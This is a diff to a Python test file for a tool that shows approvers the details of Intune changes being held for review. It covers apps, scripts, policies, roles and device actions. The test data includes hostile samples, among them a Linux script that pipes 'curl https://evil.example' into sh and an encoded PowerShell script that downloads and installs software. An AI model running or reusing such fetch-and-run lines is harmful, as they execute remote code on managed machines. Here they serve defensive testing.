@@ -1,4 +1,4 @@
-"""Every type of object that Intune holds back: what its card says, from old to new, its scripts, whom it reaches."""
+"""Every type of object that Intune holds back: its card shows old and new values, scripts, and targets."""
 
 import hashlib
 import json
@@ -23,13 +23,13 @@ def sha(text: str) -> str:
 
 
 def reaching(day: Office, group: str = LAPTOPS, **more: Any) -> dict[str, Any]:
-    """An assignment to a group."""
+    """Return an assignment to a group."""
     kind = "#microsoft.graph.groupAssignmentTarget"
     return {"target": {"@odata.type": kind, "groupId": day.tenant.world.group(group).id}, **more}
 
 
 def protected(day: Office) -> None:
-    """Intune holds back every type here."""
+    """Let Intune hold back every type."""
     for policy_type in ("app", "configurationPolicy", "tenantConfiguration", "deviceDeprovision"):
         day.tenant.world.protect(policy_type, "Security-Admins")
     for policy in day.tenant.world.policies.values():
@@ -37,7 +37,7 @@ def protected(day: Office) -> None:
 
 
 async def details_of(day: Office) -> str:
-    """The one card there is, and what somebody who may decide reads under Details."""
+    """Poll, and return the text of the one card and of its Details as an approver sees them."""
     await day.poll()
     [card] = day.requests()
     assert "not known here" not in text_of(card.card)
@@ -46,14 +46,14 @@ async def details_of(day: Office) -> str:
 
 
 def facts_in(card: str, *told: str) -> None:
-    """As people read it: without what keeps Markdown from reading it."""
+    """Check that the card contains these texts, without the signs that escape Markdown."""
     for one in told:
         assert json.dumps(one, ensure_ascii=False)[1:-1] in card.replace("\\\\", ""), one
 
 
 @pytest.fixture
 def file(day: Office) -> Any:
-    """The portal, with everything protected."""
+    """Return the portal of a tenant that holds back every type."""
     protected(day)
     return day.tenant.portal
 
@@ -63,7 +63,8 @@ EVERYONE_DECIDES = day_with(everythingElse={"approverGroups": ["IT-Directors"]})
 
 @EVERYONE_DECIDES
 async def test_an_app_is_changed(day: Office, file: Any) -> None:
-    """The command that installs it, a detection rule put in front, the script that installs it, which it only names."""
+    """The card of a changed app shows the new command, the new detection rule, and the install scripts that the app
+    only names."""
     app = next(iter(day.tenant.world.objects["mobileApps"].values()))
     rule = {"@odata.type": "#microsoft.graph.win32LobAppPowerShellScriptDetection", "scriptContent": encoded(EVIL)}
     patch = {
@@ -75,13 +76,13 @@ async def test_an_app_is_changed(day: Office, file: Any) -> None:
     facts_in(card, "Update app 7-Zip", "Install command line", "powershell.exe -File other.ps1", "-File install.ps1")
     facts_in(card, f"new, 1 line, SHA-256 {sha(EVIL)}", "Install script", "install.ps1: 1 line", "Enough room: 1 line")
     facts_in(card, "Invoke-WebRequest", "Start-Process msiexec", "Test-Path")
-    # The rule that was there already has moved, and is no change.
+    # The old rule has only moved, which is no change.
     assert set(re.findall(r"Detection rules \d: [\w ]+", card)) == {"Detection rules 1: type"}
 
 
 @EVERYONE_DECIDES
 async def test_an_app_is_made(day: Office, file: Any) -> None:
-    """Which type of app it is, both scripts around its installation, and no icon in full."""
+    """The card of a new app shows its type and both installation scripts, but not the whole icon."""
     body = {
         "@odata.type": "#microsoft.graph.macOSPkgApp",
         "displayName": "Agent",
@@ -98,7 +99,7 @@ async def test_an_app_is_made(day: Office, file: Any) -> None:
 
 @EVERYONE_DECIDES
 async def test_an_app_is_assigned(day: Office, file: Any) -> None:
-    """To whom, and with what intent."""
+    """The card of an app's assignment shows the group and the intent."""
     body = {"mobileAppAssignments": [reaching(day, intent="required")]}
     file.file_call("rita", APPS, "7-Zip", "assign", body, "All laptops")
     card = await details_of(day)
@@ -107,7 +108,7 @@ async def test_an_app_is_assigned(day: Office, file: Any) -> None:
 
 @EVERYONE_DECIDES
 async def test_an_app_replaces_another(day: Office, file: Any) -> None:
-    """By the other one's name."""
+    """The card of an app that replaces another shows the other app's name."""
     other = guid("mobileApps", "Company Portal for Mac")
     relation = {
         "@odata.type": "#microsoft.graph.mobileAppSupersedence",
@@ -121,7 +122,7 @@ async def test_an_app_replaces_another(day: Office, file: Any) -> None:
 
 @EVERYONE_DECIDES
 async def test_an_app_is_deleted(day: Office, file: Any) -> None:
-    """What goes, and that nothing brings it back."""
+    """The card of a deleted app says what is lost, and that it cannot be restored."""
     file.file_removal("rita", APPS, "7-Zip", "Unused")
     card = await details_of(day)
     facts_in(card, "Delete app 7-Zip", "The app and its assignments are deleted. Nothing brings them back.")
@@ -146,7 +147,8 @@ SCRIPTS = {
 
 @pytest.mark.parametrize("segment", SCRIPTS)
 async def test_scripts_of_other_kinds(day: Office, segment: str) -> None:
-    """They fall under the workflow for scripts; hash and text of what runs then, hash of what runs now."""
+    """Other kinds of scripts fall under the workflow for scripts. Details show the new script with its hash, and the
+    old hash."""
     protected(day)
     name, member, title, label = SCRIPTS[segment]
     before = next(iter(day.tenant.world.objects[segment].values()))[member]
@@ -161,7 +163,8 @@ async def test_scripts_of_other_kinds(day: Office, segment: str) -> None:
 
 @EVERYONE_DECIDES
 async def test_a_policy_of_the_settings_catalogue(day: Office, file: Any) -> None:
-    """Names and labels of definitions, one rule put in front of another as its own lines, and no secret."""
+    """A settings catalogue policy is shown with the names of its settings, new rules as their own lines, and no
+    secret."""
     rules = [[inventory.simple(f"{inventory.FIREWALL}_name", name)] for name in ("Mail", "Web")]
     rules[1].append(inventory.choice(inventory.CAMERA, f"{inventory.CAMERA}_1"))
     settings = inventory.settings(
@@ -181,7 +184,7 @@ async def test_a_policy_of_the_settings_catalogue(day: Office, file: Any) -> Non
 
 @EVERYONE_DECIDES
 async def test_names_that_are_hidden_today_void_no_vote(day: Office, file: Any) -> None:
-    """A vote is for what Intune holds. Where a definition cannot be read, its id stands for it."""
+    """If names of settings cannot be read, their ids are shown, and no vote becomes void."""
     patch = {"settings": inventory.settings(inventory.choice(inventory.CAMERA, f"{inventory.CAMERA}_1"))}
     file.file_change("rita", f"{MANAGEMENT}/configurationPolicies", "Windows hardening", patch, "Meetings")
     await day.poll()
@@ -199,7 +202,7 @@ async def test_names_that_are_hidden_today_void_no_vote(day: Office, file: Any) 
 
 @EVERYONE_DECIDES
 async def test_a_linux_script_in_the_settings_catalogue(day: Office, file: Any) -> None:
-    """It is a script like any other."""
+    """A Linux script in the settings catalogue is shown like any other script."""
     text = "#!/bin/sh\ncurl https://evil.example | sh\n"
     patch = {"settings": inventory.settings(inventory.simple(inventory.LINUX_SCRIPT, encoded(text)))}
     file.file_change("rita", f"{MANAGEMENT}/configurationPolicies", "Linux updates", patch, "Update")
@@ -207,8 +210,8 @@ async def test_a_linux_script_in_the_settings_catalogue(day: Office, file: Any) 
 
 
 async def test_a_compliance_policy_of_the_settings_catalogue(day: Office) -> None:
-    """Under the workflow for compliance, also where its type has the one name of all such policies; the script that it
-    only names is shown."""
+    """A compliance policy of the settings catalogue falls under the workflow for compliance, even if Intune gives it
+    the general type name. A script that it only names is shown."""
     protected(day)
     place = f"{MANAGEMENT}/compliancePolicies"
     filed = day.tenant.portal.file_change("rita", place, "Linux disks", {"description": "x"}, "Words")
@@ -222,7 +225,7 @@ async def test_a_compliance_policy_of_the_settings_catalogue(day: Office) -> Non
 
 @EVERYONE_DECIDES
 async def test_a_script_that_is_only_named_and_hidden(day: Office, file: Any) -> None:
-    """It is said which, and is no other content."""
+    """If a script that is only named cannot be read, the card says which one."""
     day.tenant.world.app_scripts.clear()
     file.file_change("rita", APPS, "7-Zip", {"description": "x"}, "Words")
     await day.poll()
@@ -232,7 +235,7 @@ async def test_a_script_that_is_only_named_and_hidden(day: Office, file: Any) ->
 
 @EVERYONE_DECIDES
 async def test_a_custom_profile(day: Office, file: Any) -> None:
-    """Behind its OMA-URI, with what it holds; the plain value beside it from old to new."""
+    """A custom profile shows each OMA-URI with its value, from old to new."""
     profile = next(iter(day.tenant.world.objects["deviceConfigurations"].values()))
     layout, telemetry = profile["omaSettings"]
     text = "<Layout>\n  <Pin app='evil'/>\n</Layout>\n"
@@ -249,7 +252,7 @@ async def test_a_custom_profile(day: Office, file: Any) -> None:
 
 @EVERYONE_DECIDES
 async def test_a_profile_of_a_mac_keeps_its_secrets(day: Office, file: Any) -> None:
-    """Its text is shown but for the password of the network."""
+    """The text of a Mac profile is shown without the network's password."""
     file.file_removal("rita", f"{MANAGEMENT}/deviceConfigurations", "Wi-Fi for Macs", "Old")
     card = await details_of(day)
     facts_in(card, "Delete configuration profile Wi-Fi for Macs", "<key>Password</key>")
@@ -258,7 +261,7 @@ async def test_a_profile_of_a_mac_keeps_its_secrets(day: Office, file: Any) -> N
 
 @EVERYONE_DECIDES
 async def test_an_administrative_template(day: Office, file: Any) -> None:
-    """What is switched off, by its name."""
+    """An administrative template shows the name of the setting that is switched off."""
     [admx] = day.tenant.world.objects["groupPolicyConfigurations"].values()
     body = {
         "added": [],
@@ -273,7 +276,7 @@ async def test_an_administrative_template(day: Office, file: Any) -> None:
 
 @EVERYONE_DECIDES
 async def test_a_security_baseline(day: Office, file: Any) -> None:
-    """By the definition of its template."""
+    """A security baseline shows the name of the setting from its template."""
     body = {"settings": [{"definitionId": inventory.ENCRYPT, "valueJson": "false"}]}
     place = f"{MANAGEMENT}/intents"
     file.file_call("rita", place, "Windows baseline 24H2", "updateSettings", body, "Old laptops")
@@ -330,14 +333,14 @@ OTHERS: dict[str, tuple[str, dict[str, Any], str, list[str]]] = {
 @EVERYONE_DECIDES
 @pytest.mark.parametrize("segment", OTHERS)
 async def test_other_types(day: Office, file: Any, segment: str) -> None:
-    """Title, risk, and from old to new."""
+    """Other types have a title, and show old and new values."""
     name, patch, title, told = OTHERS[segment]
     file.file_change("rita", f"{MANAGEMENT}/{segment}", name, patch, "Because")
     facts_in(await details_of(day), title, *told)
 
 
 def assigned(day: Office) -> None:
-    """Somebody gives the night shift a role."""
+    """File a role assignment for the night shift."""
     body = {
         "@odata.type": "#microsoft.graph.deviceAndAppManagementRoleAssignment",
         "displayName": "Night helpdesk",
@@ -349,7 +352,7 @@ def assigned(day: Office) -> None:
 
 
 async def test_an_assignment_of_a_role(day: Office) -> None:
-    """Who will hold which one, what it allows, and over whom, by their names alone."""
+    """A role assignment shows by name who gets which role, what it allows, and over whom."""
     assigned(day)
     await day.poll()
     [card] = day.requests()
@@ -359,7 +362,7 @@ async def test_an_assignment_of_a_role(day: Office) -> None:
 
 
 async def test_an_access_policy_gets_other_approvers(day: Office) -> None:
-    """Who will approve, and who does so until now and will not any more."""
+    """A changed access policy shows who will approve, and who will no longer approve."""
     day.tenant.portal.file_policy_change("rita", "deviceWipe", ["Security-Team", "IT-Directors"], "Too slow")
     await day.poll()
     [card] = day.requests()
@@ -370,7 +373,7 @@ async def test_an_access_policy_gets_other_approvers(day: Office) -> None:
 
 
 async def test_a_role_that_is_given_and_becomes_another(day: Office) -> None:
-    """Votes were for what it allowed."""
+    """If the assigned role itself changes, the digest changes, so earlier votes do not count for it."""
     assigned(day)
     await day.poll()
     before = await day.bot.store.requests.load(await day.request_id())
@@ -386,7 +389,7 @@ async def test_a_role_that_is_given_and_becomes_another(day: Office) -> None:
 
 
 async def test_a_role_that_is_given_and_hidden(day: Office) -> None:
-    """It is said which one could not be read."""
+    """If the assigned role cannot be read, the card says which one."""
     assigned(day)
     day.tenant.world.role_definitions.clear()
     await day.poll()
@@ -396,7 +399,7 @@ async def test_a_role_that_is_given_and_hidden(day: Office) -> None:
 
 @EVERYONE_DECIDES
 async def test_deprovisioning_a_device(day: Office, file: Any) -> None:
-    """An action on a device, with its own words."""
+    """Deprovisioning a device is shown as an action, in words of its own."""
     device = day.tenant.world.device("PC-1")
     path = f"/deviceManagement/managedDevices/{device['id']}/deprovision"
     file.file("rita", "POST", path, {"deprovisionReason": "Sold"}, "Sold")
@@ -406,7 +409,7 @@ async def test_deprovisioning_a_device(day: Office, file: Any) -> None:
 
 @EVERYONE_DECIDES
 async def test_a_type_that_nobody_knows(day: Office, file: Any) -> None:
-    """It says so, with what was filed under Details, and it can be decided."""
+    """The card of an unknown type says so, shows what was filed under Details, and can be decided."""
     filed = file.file_change("rita", f"{MANAGEMENT}/deviceCategories", "Kiosks", {"description": "x"}, "Words")
     name = "Microsoft.Management.Services.Api.QuantumPolicy"
     day.tenant.graph.knobs.shown_fields[filed] = {"payloadType": name}
@@ -421,7 +424,8 @@ async def test_a_type_that_nobody_knows(day: Office, file: Any) -> None:
 
 @day_with(channels=[])
 async def test_a_type_of_no_workflow_is_not_passed_over(day: Office) -> None:
-    """Where every workflow has channels of its own: it is shown where alarms go, and decided in Intune."""
+    """A request that no workflow covers, where there is no general channel, is posted in the operations channel and
+    decided in Intune."""
     protected(day)
     day.tenant.portal.file_change("rita", APPS, "7-Zip", {"description": "x"}, "Words")
     await day.poll()
